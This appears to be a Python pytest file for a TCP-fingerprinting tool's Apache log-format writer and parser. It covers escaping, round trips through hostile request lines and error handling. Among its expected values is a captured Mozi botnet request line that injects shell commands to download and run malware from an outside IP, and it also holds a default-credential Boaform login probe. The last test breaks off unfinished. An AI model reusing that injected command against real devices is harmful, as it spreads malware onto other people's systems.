"""The LogFormat compiler: what a line looks like, and that parsing gives back what was written.

`tcpfp serve` writes access lines with `LogFormat.write` and `tcpfp report`
reads them back with `LogFormat.parse`, possibly from Apache's own logs, so
this file specifies both directions: hand-written (format, record, line)
tables, Apache's escaping byte by byte, round trips through hostile request
lines, the lines of the module's README, and the errors for bad formats and
bad lines.  Apache itself is the oracle in test_logformat_apache.py.
"""

from __future__ import annotations

import json
import re
import struct
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tcpfp_cli.errors import TcpfpError
from tcpfp_cli.fields import FIELDS, Observation, render
from tcpfp_cli.logformat import (
    AccessRecord,
    Directive,
    Literal,
    LogFormatError,
    LogLineError,
    compile_format,
)
from tcpfp_cli.sigdb import Match
from tcpfp_cli.syn import parse_syn
from tcpfp_cli.tcpinfo import TcpInfo, parse_tcp_info

SEED = Path("/work/shared/seed/mod_tcpfingerprint-README.md")

# A Linux SYN from 127.0.0.1:50000 to port 80: TTL 64, DF, IP ID 1234, window
# 65495, options MSS 65495, SACK-permitted, timestamps (TSval 100, TSecr 0),
# NOP, window scale 7.
SYN = bytes.fromhex(
    "4500003c04d2400040060000" "7f000001" "7f000001"
    "c35000500000000100000000a002ffd700000000"
    "0204ffd7" "0402" "080a0000006400000000" "01" "030307"
)


def tcp_info(rtt: int, rcv_mss: int = 0, total_retrans: int = 0, min_rtt: int = 0) -> bytes:
    raw = bytearray(232)
    struct.pack_into("=I", raw, 20, rcv_mss)
    struct.pack_into("=I", raw, 68, rtt)
    struct.pack_into("=I", raw, 100, total_retrans)
    struct.pack_into("=I", raw, 148, min_rtt)
    return bytes(raw)


OBS = Observation(
    fingerprint=parse_syn(SYN),
    saved_syn=SYN,
    tcp_info=parse_tcp_info(tcp_info(rtt=201700)),
    tcp_info_now=parse_tcp_info(tcp_info(rtt=180000, rcv_mss=1448, total_retrans=2, min_rtt=150000)),
    accept_time_us=1700000000123456,
)
NO_SYN = Observation()  # SYN cookies: nothing saved, nothing read

T0 = 1700000000.25  # 2023-11-14 22:13:20.25 UTC


def record(**changes: object) -> AccessRecord:
    base = AccessRecord(
        remote_addr="192.0.2.7",
        remote_port=50000,
        local_addr="127.0.0.1",
        local_port=8080,
        start_time=T0,
        request_line=b"GET /a?b=1 HTTP/1.1",
        method=b"GET",
        path=b"/a",
        query=b"?b=1",
        protocol=b"HTTP/1.1",
        status=200,
        bytes_sent=512,
        duration_us=1_500_123,
        keepalive=3,
        request_headers={"user-agent": b"curl/8.5.0", "referer": b"http://example.com/x"},
        response_headers={"content-type": "text/html"},
        env={"SCRIPT": "run.py"},
        observation=OBS,
    )
    return base._replace(**changes)


@pytest.fixture(autouse=True)
def utc(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("TZ", "UTC")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


# ------------------------------------------------------------------ writing, by hand

CLF = "192.0.2.7 - - [14/Nov/2023:22:13:20 +0000]"

WRITE_CASES = [
    ("common", {}, f'{CLF} "GET /a?b=1 HTTP/1.1" 200 512'),
    ("combined", {}, f'{CLF} "GET /a?b=1 HTTP/1.1" 200 512 "http://example.com/x" "curl/8.5.0"'),
    ("combined", {"request_headers": {}}, f'{CLF} "GET /a?b=1 HTTP/1.1" 200 512 "-" "-"'),
    ("combined", {"request_headers": {"user-agent": b""}}, f'{CLF} "GET /a?b=1 HTTP/1.1" 200 512 "-" ""'),
    ("%b|%B", {"bytes_sent": 0}, "-|0"),
    ("%>s %<s %s", {"status": 404}, "404 404 404"),
    ("%a:%{remote}p %A:%p %{local}p", {}, "192.0.2.7:50000 127.0.0.1:8080 8080"),
    ("%m|%U|%q|%H", {}, "GET|/a|?b=1|HTTP/1.1"),
    ("%m|%U|%q|%H", {"query": b""}, "GET|/a||HTTP/1.1"),
    ("%m|%U|%q|%H", {"method": None, "path": None, "query": None, "protocol": None}, "-|-||-"),
    ("%D %T %{ms}T %{us}T %{s}T", {}, "1500123 1 1500 1500123 1"),
    ("%k", {}, "3"),
    ("%{X-None}i %{Content-Type}o %{Server}o", {}, "- text/html -"),
    ("%{SCRIPT}e %{NOPE}e", {}, "run.py -"),
    ("%{USER-AGENT}i", {}, "curl/8.5.0"),  # header names are case-insensitive
    ("100%% %m", {}, "100% GET"),
    (r"\"%m\"\t%s\n", {}, '"GET"\t200\n'),
    (r"back\slash \\ %m", {}, r"back\slash \ GET"),  # unknown escapes stay verbatim
    ("%404{Referer}i %!404{Referer}i", {}, "- http://example.com/x"),
    ("%404,500{Referer}i %!404,500{Referer}i", {"status": 500}, "http://example.com/x -"),
    ("%l %u %400l", {}, "- - -"),
    ("%{FINGERPRINT_TCP_RTT}g %{TCP_MSS}g %{fingerprint_ip_ttl}g", {}, "201700 65495 64"),
    ("%{FINGERPRINT_SAVED_SYN}g", {}, SYN.hex()),
    ('%{FINGERPRINT_TCP_OPTIONS}g "%{FINGERPRINT_QUIRKS}g" %{FINGERPRINT_IP_DF}g', {"observation": NO_SYN}, '- "-" -'),
    (
        "tcpfp",
        {},
        f'{CLF} "GET /a?b=1 HTTP/1.1" 200 512 "http://example.com/x" "curl/8.5.0"'
        ' 64 1 0 65495 7 65495 "2,4,8,1,3" 0 4 1234 0 100 0 64 0 "df,id+"'
        ' "4:64+0:0:65495:mss*1,7:mss,sok,ts,nop,ws:df,id+:0" "-" "-"'
        ' 201700 1700000000123456 180000 150000 1448 2 "-"',
    ),
    (
        "tcpfp",
        {"observation": NO_SYN, "request_headers": {}},
        f'{CLF} "GET /a?b=1 HTTP/1.1" 200 512 "-" "-"'
        ' - - - - - - "-" - - - - - - - - "-" "-" "-" "-" - - - - - - "-"',
    ),
]


@pytest.mark.parametrize(("fmt", "changes", "line"), WRITE_CASES)
def test_write(fmt: str, changes: dict, line: str) -> None:
    assert compile_format(fmt).write(record(**changes)) == line


@pytest.mark.parametrize(
    ("tz", "expected"),
    [
        ("UTC", "[14/Nov/2023:22:13:20 +0000]"),
        ("PST8PDT", "[14/Nov/2023:14:13:20 -0800]"),
        ("IST-5:30", "[15/Nov/2023:03:43:20 +0530]"),
    ],
)
def test_time_is_apache_clf_in_local_time(monkeypatch: pytest.MonkeyPatch, tz: str, expected: str) -> None:
    monkeypatch.setenv("TZ", tz)
    time.tzset()
    fmt = compile_format("%t")
    assert fmt.write(record()) == expected
    assert fmt.write(record(start_time=T0 + 0.7)) == expected  # same second
    assert fmt.write(record(start_time=T0 + 1)) == expected.replace(":20 ", ":21 ")


# Apache's ap_escape_logitem, byte by byte.
ESCAPES = [
    (b"plain text, with spaces and 100% signs", "plain text, with spaces and 100% signs"),
    (b'"', '\\"'),
    (b"\\", "\\\\"),
    (b"\b\n\r\t\v", "\\b\\n\\r\\t\\v"),
    (b"\x00\x01\x0c\x1b\x1f", "\\x00\\x01\\x0c\\x1b\\x1f"),
    (b"\x7f\x80\xc3\xa9\xff", "\\x7f\\x80\\xc3\\xa9\\xff"),
    (b"~ !#$&'()*+,-./:;<=>?@[]^_`{|}", "~ !#$&'()*+,-./:;<=>?@[]^_`{|}"),
    (b"\\x41", "\\\\x41"),  # a literal backslash-x stays distinguishable from an escape
]


@pytest.mark.parametrize(("raw", "text"), ESCAPES)
def test_escaping_follows_apache(raw: bytes, text: str) -> None:
    fmt = compile_format('"%r" "%{X-A}i" %U')
    line = fmt.write(record(request_line=raw, request_headers={"x-a": raw}, path=raw))
    assert line == f'"{text}" "{text}" {text}'


def test_str_values_are_escaped_as_their_latin1_bytes() -> None:
    fmt = compile_format('"%{Location}o" "%{NOTE}e"')
    line = fmt.write(record(response_headers={"location": '/é"\n'}, env={"NOTE": "snow ☃"}))
    assert line == '"/\\xe9\\"\\n" "snow \\xe2\\x98\\x83"'


# ------------------------------------------------------------------ columns and items


def test_columns_of_named_formats() -> None:
    common = ("remote_host", "ident", "user", "time", "request", "status", "bytes")
    assert compile_format("common").columns == common
    combined = common + ("header:referer", "header:user-agent")
    assert compile_format("combined").columns == combined
    tcpfp = compile_format("tcpfp")
    assert tcpfp.columns[:9] == combined
    assert tcpfp.columns[9:] == (
        "FINGERPRINT_IP_TTL", "FINGERPRINT_IP_DF", "FINGERPRINT_IP_ECN", "FINGERPRINT_TCP_WSIZE",
        "FINGERPRINT_TCP_WSCALE", "FINGERPRINT_TCP_MSS", "FINGERPRINT_TCP_OPTIONS",
        "FINGERPRINT_TCP_ECN", "FINGERPRINT_IP_VERSION", "FINGERPRINT_IP_ID", "FINGERPRINT_IP_OLEN",
        "FINGERPRINT_TCP_TS", "FINGERPRINT_TCP_TSECR", "FINGERPRINT_ITTL", "FINGERPRINT_HOPS",
        "FINGERPRINT_QUIRKS", "FINGERPRINT_P0F", "FINGERPRINT_OS", "FINGERPRINT_OS_MATCH",
        "FINGERPRINT_TCP_RTT", "FINGERPRINT_ACCEPT_TIME",
        "FINGERPRINT_REQ_RTT", "FINGERPRINT_REQ_MIN_RTT", "FINGERPRINT_REQ_RCV_MSS",
        "FINGERPRINT_REQ_TOTAL_RETRANS", "FINGERPRINT_DENY",
    )


def test_columns_of_every_directive() -> None:
    fmt = compile_format(
        "%h %a %A %p %{remote}p %l %u %t %r %>s %b %m %U %q %H %D %T %{ms}T %k"
        " %{X-Real-IP}i %{Set-Cookie}o %{UNIQUE_ID}e %{FINGERPRINT_TCP_TS}g"
    )
    assert fmt.columns == (
        "remote_host", "remote_addr", "local_addr", "local_port", "remote_port", "ident", "user",
        "time", "request", "status", "bytes", "method", "path", "query", "protocol", "duration_us",
        "duration_s", "duration_ms", "keepalive", "header:x-real-ip", "response_header:set-cookie",
        "env:UNIQUE_ID", "FINGERPRINT_TCP_TS",
    )


def test_items_describe_the_format_for_a_vectorised_reader() -> None:
    fmt = compile_format('%h "%r" %>s "%{FINGERPRINT_QUIRKS}g" %{FINGERPRINT_IP_TTL}g')
    kinds = [(type(i).__name__, getattr(i, "column", i.text), getattr(i, "quoted", None),
              getattr(i, "kind", None)) for i in fmt.items]
    assert kinds == [
        ("Directive", "remote_host", False, "text"),
        ("Literal", ' "', None, None),
        ("Directive", "request", True, "text"),
        ("Literal", '" ', None, None),
        ("Directive", "status", False, "int"),
        ("Literal", ' "', None, None),
        ("Directive", "FINGERPRINT_QUIRKS", True, "text"),
        ("Literal", '" ', None, None),
        ("Directive", "FINGERPRINT_IP_TTL", False, "int"),
    ]
    assert all(isinstance(i, (Literal, Directive)) for i in fmt.items)
    # ``pattern`` has one group per column, in order: a reader can use it as it is.
    m = re.fullmatch(fmt.pattern, '10.0.0.1 "GET / HTTP/1.0" 200 "df,id+" 57')
    assert m is not None
    assert m.groups() == ("10.0.0.1", "GET / HTTP/1.0", "200", "df,id+", "57")


def test_the_seed_format_with_escaped_quotes_compiles() -> None:
    fmt = compile_format(SEED_FORMAT)
    assert fmt.items[-3] == Literal(' "')
    assert fmt.items[-1] == Literal('"')
    assert [i.quoted for i in fmt.items if isinstance(i, Directive)] == [False] * 6 + [True]


# ------------------------------------------------------------------ parsing


def test_parse_common_by_hand() -> None:
    line = '203.0.113.9 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326'
    assert compile_format("common").parse(line) == {
        "remote_host": "203.0.113.9",
        "ident": None,
        "user": "frank",
        "time": "10/Oct/2000:13:55:36 -0700",
        "request": "GET /apache_pb.gif HTTP/1.0",
        "status": "200",
        "bytes": "2326",
    }


def test_parse_unescapes_apache_text() -> None:
    line = r'1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET /\"x\\\x41\xe9\t HTTP/1.0" 400 - "-" "a \"b\""'
    parsed = compile_format("combined").parse(line)
    assert parsed["request"] == 'GET /"x\\Aé\t HTTP/1.0'
    assert parsed["bytes"] is None
    assert parsed["header:referer"] is None
    assert parsed["header:user-agent"] == 'a "b"'


def test_parse_accepts_a_trailing_newline_and_surrounding_spaces() -> None:
    fmt = compile_format("%>s %b")
    assert fmt.parse("  200   512  \n") == {"status": "200", "bytes": "512"}


def test_parse_splits_path_and_query() -> None:
    fmt = compile_format("%m %U%q %H")
    assert fmt.parse("GET /a/b?x=1&y=?2 HTTP/1.1") == {
        "method": "GET", "path": "/a/b", "query": "?x=1&y=?2", "protocol": "HTTP/1.1"
    }
    assert fmt.parse("GET /a/b HTTP/1.1")["query"] == ""


def seed_lines() -> list[str]:
    text = SEED.read_text()
    lines = []
    for block in ("### Mozi", "### Boaform"):
        body = text.split(block, 1)[1].split("```", 2)[1]
        lines += [ln for ln in body.splitlines() if ln.strip()]
    return lines


SEED_FORMAT = (
    r"%{FINGERPRINT_TCP_RTT}g %{FINGERPRINT_IP_TTL}g %{FINGERPRINT_TCP_WSIZE}g "
    r"%{FINGERPRINT_TCP_WSCALE}g %{FINGERPRINT_TCP_OPTIONS}g %{FINGERPRINT_TCP_MSS}g \"%r\""
)


def test_seed_lines_parse_to_their_values() -> None:
    lines = seed_lines()
    assert len(lines) == 13  # 4 Mozi, 9 Boaform
    fmt = compile_format(SEED_FORMAT)
    parsed = [fmt.parse(line) for line in lines]
    assert parsed[2] == {
        "FINGERPRINT_TCP_RTT": "563328",
        "FINGERPRINT_IP_TTL": "49",
        "FINGERPRINT_TCP_WSIZE": "29040",
        "FINGERPRINT_TCP_WSCALE": "5",
        "FINGERPRINT_TCP_OPTIONS": "2,4,8,1,3",
        "FINGERPRINT_TCP_MSS": "1400",
        "request": "GET /board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://115.63.48.207:54752/Mozi.a;"
        "chmod+777+Mozi.a;/tmp/Mozi.a+varcron HTTP/1.0",
    }
    assert parsed[3]["FINGERPRINT_TCP_WSIZE"] == "5808"  # right-aligned: two spaces before it
    assert parsed[-1] == {
        "FINGERPRINT_TCP_RTT": "2549609",
        "FINGERPRINT_IP_TTL": "49",
        "FINGERPRINT_TCP_WSIZE": "28800",
        "FINGERPRINT_TCP_WSCALE": "5",
        "FINGERPRINT_TCP_OPTIONS": "2,4,8,1,3",
        "FINGERPRINT_TCP_MSS": "1406",
        "request": "GET /boaform/admin/formLogin?username=admin&psd=admin HTTP/1.0",
    }
    assert [p["FINGERPRINT_TCP_RTT"] for p in parsed] == [
        "2180970", "4020319", "563328", "1097078", "2629368", "3608747", "4969075", "454541",
        "3019585", "2423828", "3114062", "2260885", "2549609",
    ]
    assert {p["FINGERPRINT_TCP_MSS"] for p in parsed} == {"1406", "1452", "1400"}


def test_readme_example_parses() -> None:
    line = ' 563328 49  5808 1 2,4,8,1,3 1452 "GET /board.cgi?... HTTP/1.0"'
    assert compile_format(SEED_FORMAT).parse(line)["FINGERPRINT_TCP_WSCALE"] == "1"


# ------------------------------------------------------------------ round trips

CLIENT_HELLO = bytes.fromhex("160301020001000001fc0303") + bytes(range(0xA0, 0xC0)) + b"\x20" + bytes(32)

HOSTILE = [
    b"GET / HTTP/1.1",
    b"",
    b"-",
    b'GET /"quoted" HTTP/1.0',
    b"GET /back\\slash\\ HTTP/1.0",
    b"GET /\\x41\\\\x42\\n HTTP/1.0",
    b"GET /a\r\nInjected: 1\tx HTTP/1.0",
    b"GET /\x00nul HTTP/1.0",
    b"GET /\x80\xff\xc3\xa9 HTTP/1.0",
    b"GET /%s%n%%%d HTTP/1.0",
    CLIENT_HELLO,
    bytes(range(256)),
    b"GET /" + b"A\\\"" * 30000 + b" HTTP/1.1",
]

CUSTOM_1 = (
    "%a:%{remote}p -> %A:%p %m %U%q %H %>s %B %D %T %k \"%{X-Forwarded-For}i\""
    " \"%{Content-Type}o\" \"%{SCRIPT}e\" %{FINGERPRINT_IP_TTL}g %{FINGERPRINT_P0F}g"
)
CUSTOM_2 = r"\"%r\"\t%t\t%{FINGERPRINT_QUIRKS}g\t%{FINGERPRINT_TCP_OPTIONS}g\t%%"
# Unquoted text between tabs or "|": it holds spaces, and the request line also "|".
TABS = r"%h\t%t\t%r\t%>s\t%{Referer}i\t%{User-Agent}i\t%{FINGERPRINT_TCP_OPTIONS}g\t%{FINGERPRINT_OS}g"
PIPES = "%h|%r|%>s|%{FINGERPRINT_IP_TTL}g|%{FINGERPRINT_TCP_OPTIONS}g"
UNQUOTED_R = "%h %t %r %>s %{FINGERPRINT_TCP_OPTIONS}g"  # the request line holds spaces even so


def as_text(value: bytes) -> str | None:
    """What parse gives back for escaped bytes: latin-1 text, or None for '-'."""
    return None if value == b"-" else value.decode("latin-1")


@pytest.mark.parametrize("raw", HOSTILE, ids=lambda b: repr(b[:24]))
@pytest.mark.parametrize("fmt_name", ["common", "combined", "tcpfp", CUSTOM_2, TABS, PIPES, UNQUOTED_R])
def test_round_trip_hostile_request_lines(fmt_name: str, raw: bytes) -> None:
    fmt = compile_format(fmt_name)
    rec = record(request_line=raw, request_headers={"user-agent": raw, "referer": raw[::-1]},
                 observation=OBS._replace(os=Match("unix:Linux:3.11 and newer", "exact", None, 1)))
    line = fmt.write(rec)
    assert "\n" not in line and "\r" not in line
    parsed = fmt.parse(line)
    assert parsed["request"] == as_text(raw)
    if fmt_name in ("combined", "tcpfp", TABS):
        assert parsed["header:user-agent"] == as_text(raw)
        assert parsed["header:referer"] == as_text(raw[::-1])
    if fmt_name == "tcpfp":
        assert parsed["FINGERPRINT_P0F"] == "4:64+0:0:65495:mss*1,7:mss,sok,ts,nop,ws:df,id+:0"
        assert parsed["FINGERPRINT_REQ_TOTAL_RETRANS"] == "2"
    if fmt_name in (TABS, PIPES, UNQUOTED_R):
        assert parsed["FINGERPRINT_TCP_OPTIONS"] == "2,4,8,1,3"
    if fmt_name == TABS:
        assert parsed["FINGERPRINT_OS"] == "unix:Linux:3.11 and newer"
    if fmt_name == CUSTOM_2:
        assert parsed["FINGERPRINT_QUIRKS"] == "df,id+"
        assert parsed["time"] == "14/Nov/2023:22:13:20 +0000"


@pytest.mark.parametrize("fmt_text, column, value", [
    ('%h:%{remote}p %l %u %t "%r" %>s %b', "remote_host", "2001:db8::7"),
    ("%>s,%{FINGERPRINT_TCP_OPTIONS}g,%D", "FINGERPRINT_TCP_OPTIONS", "2,4,8,1,3"),
    ("%>s:%{FINGERPRINT_P0F}g", "FINGERPRINT_P0F", "4:64+0:0:65495:mss*1,7:mss,sok,ts,nop,ws:df,id+:0"),
])
def test_a_field_glued_by_a_character_its_values_hold_still_reads(fmt_text: str, column: str, value: str) -> None:
    """Glued by ":" or "," (not a tab or "|"), a field holds no space but may hold that
    character, as it did before fields between tabs could hold spaces: an IPv6 client
    before ":%{remote}p", the commas of the option list in a CSV line."""
    fmt = compile_format(fmt_text)
    line = fmt.write(record(remote_addr="2001:db8::7"))
    assert fmt.parse(line)[column] == value


def test_round_trip_custom_format_with_every_kind_of_value() -> None:
    fmt = compile_format(CUSTOM_1)
    rec = record(
        method=b"M\xe9\"",
        path=b"/p\\a\tth",
        query=b"?q=\x01\"",
        request_headers={"x-forwarded-for": b'1.1.1.1, "evil" \\ \xff'},
        response_headers={"content-type": 'text/plain; x="\t"'},
        env={"SCRIPT": "a b"},
    )
    assert fmt.parse(fmt.write(rec)) == {
        "remote_addr": "192.0.2.7",
        "remote_port": "50000",
        "local_addr": "127.0.0.1",
        "local_port": "8080",
        "method": 'M\xe9"',
        "path": "/p\\a\tth",
        "query": '?q=\x01"',
        "protocol": "HTTP/1.1",
        "status": "200",
        "bytes": "512",
        "duration_us": "1500123",
        "duration_s": "1",
        "keepalive": "3",
        "header:x-forwarded-for": '1.1.1.1, "evil" \\ \xff',
        "response_header:content-type": 'text/plain; x="\t"',
        "env:SCRIPT": "a b",
        "FINGERPRINT_IP_TTL": "64",
        "FINGERPRINT_P0F": "4:64+0:0:65495:mss*1,7:mss,sok,ts,nop,ws:df,id+:0",
    }


def test_round_trip_without_a_syn_gives_none() -> None:
    fmt = compile_format("tcpfp")
    parsed = fmt.parse(fmt.write(record(observation=NO_SYN)))
    assert {k: v for k, v in parsed.items() if k.startswith("FINGERPRINT_")} == dict.fromkeys(
        fmt.columns[9:]
    )


def test_empty_text_fields_survive_unquoted() -> None:
    # No options and no quirks: empty text, not '-', even between tabs.
    syn = bytes.fromhex("4500002804d2000040060000010203040506070800010050000000010000000050022000" "00000000")
    obs = Observation(fingerprint=parse_syn(syn), saved_syn=syn)
    fmt = compile_format(CUSTOM_2)
    parsed = fmt.parse(fmt.write(record(observation=obs)))
    assert parsed["FINGERPRINT_TCP_OPTIONS"] == ""
    assert parsed["FINGERPRINT_QUIRKS"] == ""


# Hypothesis: any request line and header value survives write -> parse.
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    request_line=st.binary(max_size=300),
    agent=st.binary(max_size=100),
    path=st.binary(max_size=60).filter(lambda b: b" " not in b),
)
def test_property_escape_then_unescape_is_latin1(request_line: bytes, agent: bytes, path: bytes) -> None:
    fmt = compile_format('%h "%r" "%{User-Agent}i" %U %>s')
    line = fmt.write(record(request_line=request_line, request_headers={"user-agent": agent}, path=path))
    parsed = fmt.parse(line)
    assert parsed["request"] == as_text(request_line)
    assert parsed["header:user-agent"] == as_text(agent)
    assert parsed["path"] == as_text(path)
    assert parsed["status"] == "200"


# ------------------------------------------------------------------ errors

BAD_FORMATS = [
    ("%h %z", 3, "unsupported directive %z"),
    ("%{FINGERPRINT_NO_SUCH}g", 0, "no field named"),
    ('%h "%{User-Agent', 5, "unterminated %{"),
    ("%h %", 3, "ends inside"),
    ("%{x}h", 0, "takes no {...} argument"),
    ("%i", 0, "needs a name"),
    ("%{sometimes}p", 0, "local, remote or canonical"),
    ("%{msec}a", 0, "takes no {...} argument"),
    ("%40{Referer}i", 1, "not an HTTP status"),
    ("comon", 0, "not a named format"),
]


@pytest.mark.parametrize(("fmt", "position", "words"), BAD_FORMATS)
def test_bad_formats_raise_log_format_error(fmt: str, position: int, words: str) -> None:
    with pytest.raises(LogFormatError) as info:
        compile_format(fmt)
    err = info.value
    assert isinstance(err, TcpfpError)
    assert err.format == fmt
    assert err.position == position
    assert words in str(err)


BAD_LINES = [
    ("common", "", 0, "empty"),
    ("common", "   \n", 0, "empty"),
    ("common", '1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200', 61, "ends early"),
    ("common", '1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0', 56, "ends early"),
    ("common", '1.2.3.4 - - 10/Oct/2000:13:55:36 -0700 "GET / HTTP/1.0" 200 1', 12, "bracketed time"),
    ("common", '1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" OK 1', 58, "number or -"),
    ("common", '1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 1 extra', 64, "after the last"),
    ("%>s %b", "200", 3, "ends early: expected the literal text ' '"),
    ("%>s %b", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 0, "number or -"),
    (SEED_FORMAT, '563328 49 5808 1 2,4,8,1,3 "GET / HTTP/1.0"', 27, "number or -"),
]


@pytest.mark.parametrize(("fmt", "line", "column", "words"), BAD_LINES)
def test_bad_lines_raise_log_line_error(fmt: str, line: str, column: int, words: str) -> None:
    with pytest.raises(LogLineError) as info:
        compile_format(fmt).parse(line)
    err = info.value
    assert isinstance(err, TcpfpError)
    assert err.column == column
    assert words in err.reason
    assert f"character {column}" in str(err)


def test_random_binary_garbage_is_rejected_with_our_error() -> None:
    fmt = compile_format("tcpfp")
    for n in range(1, 200, 7):
        junk = bytes((i * 37 + n) % 256 for i in range(n)).decode("latin-1")
        with pytest.raises(LogLineError):
            fmt.parse(junk)


def test_pattern_drives_a_vectorised_reader() -> None:
    pd = pytest.importorskip("pandas")
    fmt = compile_format("tcpfp")
    lines = [
        fmt.write(record(request_line=b'GET /"x" HTTP/1.1')),
        fmt.write(record(observation=NO_SYN, status=400, bytes_sent=0)),
    ]
    frame = pd.Series(lines).str.extract(fmt.pattern)
    assert list(frame.iloc[0, :9]) == [
        "192.0.2.7", "-", "-", "14/Nov/2023:22:13:20 +0000", 'GET /\\"x\\" HTTP/1.1', "200", "512",
        "http://example.com/x", "curl/8.5.0",
    ]
    assert frame.iloc[1, 5:7].tolist() == ["400", "-"]
    assert frame.iloc[0, 9] == "64" and frame.iloc[1, 9] == "-"


def test_one_writer_follows_changing_connections() -> None:
    # The writer reuses the SYN fields' text while the SYN object is the same
    # (keep-alive); every change of SYN or TCP_INFO must show in the next line.
    fmt = compile_format("%{FINGERPRINT_IP_TTL}g %{FINGERPRINT_TCP_MSS}g %{FINGERPRINT_REQ_RTT}g %{FINGERPRINT_REQ_RCV_MSS}g")
    assert fmt.write(record()) == "64 65495 180000 1448"
    later = OBS._replace(tcp_info_now=parse_tcp_info(tcp_info(rtt=90000, rcv_mss=536)))
    assert fmt.write(record(observation=later)) == "64 65495 90000 536"
    assert fmt.write(record(observation=NO_SYN)) == "- - - -"
    other_syn = bytes.fromhex(  # TTL 52, MSS 1380: another client
        "4500002c0001000034060000c000020a7f000001" "d43100500000000100000000600220000000" "0000" "02040564"
    )
    other = OBS._replace(fingerprint=parse_syn(other_syn), saved_syn=other_syn)
    assert fmt.write(record(observation=other)) == "52 1380 180000 1448"
    assert fmt.write(record()) == "64 65495 180000 1448"


FIXTURE_SYNS = [
    bytes.fromhex(case["hex"])
    for case in (json.loads(p.read_text()) for p in sorted((Path(__file__).parent / "fixtures" / "syn").glob("*.json")))
    if "expected" in case
]
SYN_MEMBERS = [f for f in FIELDS if f.source == "syn" and f.member is not None]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(SYN_MEMBERS), min_size=2, max_size=12, unique=True),
       st.lists(st.tuples(st.sampled_from(FIXTURE_SYNS), st.integers(1, 255), st.integers(0, 65535)),
                min_size=1, max_size=6),
       st.booleans())
def test_runs_of_syn_fields_are_written_as_each_field_renders(fields, connections, percent):
    """The writer of a run of SYN fields keeps a template per SYN shape (shape fields written
    in, TTL, IP ID and the like left to fill) and the text of the last SYN.  Whatever
    SYNs come in whatever order (same shape with another TTL or IP ID, another shape, the
    same SYN again, none at all), each line is what rendering field by field gives."""
    joiner = " 100%% " if percent else " "  # a literal '%' inside the run
    fmt = compile_format(joiner.join(f'"%{{{f.name}}}g"' if f.kind == "text" else f"%{{{f.name}}}g"
                                     for f in fields))
    observations = []
    for data, ttl, ip_id in connections:
        raw = bytearray(data)
        if raw[0] >> 4 == 4:
            raw[8], raw[4:6] = ttl, ip_id.to_bytes(2, "big")
        else:
            raw[7] = ttl
        observations.append(Observation(parse_syn(bytes(raw)), bytes(raw)))
    observations += [observations[0], NO_SYN, observations[-1]]
    for obs in observations:
        expected = (" 100% " if percent else " ").join(
            f'"{render(f, obs)}"' if f.kind == "text" else render(f, obs) for f in fields)
        assert fmt.write(record(observation=obs)) == expected


INFO_RUN_FIELDS = [f for f in FIELDS if f.info is not None]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(INFO_RUN_FIELDS), min_size=1, max_size=8),
       st.lists(st.tuples(st.binary(max_size=260), st.binary(max_size=260)), min_size=1, max_size=4),
       st.sampled_from([" ", " 100%% ", "/"]))
def test_runs_of_tcp_info_fields_are_written_as_each_field_renders(fields, readings, joiner):
    """A run of TCP_INFO fields is written from one unpack of the reading, the numbers put
    into the template as they are; a reading too short for a field (any length, from
    Linux 2.6's 104 bytes to today's) gives '-' for it, as rendering field by field does."""
    fmt = compile_format(joiner.join(f"%{{{f.name}}}g" for f in fields))
    for at_accept, now in readings:
        obs = OBS._replace(tcp_info=TcpInfo(at_accept) if at_accept else None,
                           tcp_info_now=TcpInfo(now) if now else None)
        expected = joiner.replace("%%", "%").join(render(f, obs) for f in fields)
        assert fmt.write(record(observation=obs)) == expected


def test_fields_of_one_object_follow_each_change_of_that_object() -> None:
    """Runs of the label, TCP_INFO, accept time and deny fields keep their text while
    their object is the same one (keep-alive) and change with it."""
    from tcpfp_cli.rules import parse_rule
    from tcpfp_cli.sigdb import Match

    fmt = compile_format("%{FINGERPRINT_TCP_RTT}g %h %{FINGERPRINT_OS}g %{FINGERPRINT_OS_MATCH}g %h "
                         "%{FINGERPRINT_ACCEPT_TIME}g %h %{FINGERPRINT_DENY}g")
    linux = Match("unix:Linux:3.11 and newer", "exact", None, 1)
    rule = parse_rule("TCP_MSS = 1 -> 403", 7)
    first = OBS._replace(os=linux)
    steps = [
        (first, "201700 192.0.2.7 unix:Linux:3.11 and newer exact 192.0.2.7 1700000000123456 192.0.2.7 -"),
        (first, "201700 192.0.2.7 unix:Linux:3.11 and newer exact 192.0.2.7 1700000000123456 192.0.2.7 -"),
        (first._replace(tcp_info=parse_tcp_info(tcp_info(rtt=5))), "5 192.0.2.7 unix:Linux:3.11 and newer exact "
         "192.0.2.7 1700000000123456 192.0.2.7 -"),
        (first._replace(os=Match("win:Windows:7 or 8", "fuzzy", None, 2), accept_time_us=7, deny=rule),
         "201700 192.0.2.7 win:Windows:7 or 8 fuzzy 192.0.2.7 7 192.0.2.7 7:403"),
        (NO_SYN, "- 192.0.2.7 - - 192.0.2.7 - 192.0.2.7 -"),
        (first, "201700 192.0.2.7 unix:Linux:3.11 and newer exact 192.0.2.7 1700000000123456 192.0.2.7 -"),
    ]
    for obs, line in steps:
        assert fmt.write(record(observation=obs)) == line


@pytest.mark.parametrize("fmt, value", [
    ("%{%Y-%m-%d %H:%M:%S}t", "2026-11-25 18:52:03"),
    ("%{%d/%b/%Y:%T %z}t", "25/Nov/2026:18:52:03 +0000"),
    ("%{msec}t", "1795632723886"),
    ("%{begin:usec_frac}t", "004213"),
    ("%{%s %Q}t", "1795632723 anything"),  # an unknown conversion
])
def test_strftime_times_parse_back_whatever_their_spaces(fmt, value):
    compiled = compile_format(f'"%r" {fmt} %>s')
